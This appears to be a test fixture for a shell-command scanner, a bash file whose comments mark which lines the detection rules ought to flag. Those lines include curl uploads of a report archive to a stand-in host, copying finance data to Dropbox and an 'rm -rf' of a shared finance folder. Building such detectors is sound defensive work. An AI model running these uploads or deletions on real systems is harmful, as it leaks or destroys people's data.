#!/bin/bash
# hit: escrow.sh.files.copies-to-own-cloud-or-server
cp report.csv "$HOME/Dropbox/"
cp report.csv /srv/share/finance/
# hit: escrow.sh.files.uploads-to-a-server
curl --upload-file report.tgz https://drop.example/report.tgz
# hit: escrow.sh.files.uploads-to-a-server
curl --upload-file report.tgz https://127.drop.example/report.tgz
curl --upload-file report.tgz http://10.20.0.15/report.tgz
curl -o report.tgz https://intranet.example/report.tgz
# hit: escrow.sh.files.wipes-shared-folders
rm -rf /srv/share/finance
rm -rf build
# hit: escrow.sh.files.looks-for-removable-drives
lsblk -o NAME,RM,MOUNTPOINT
lsblk
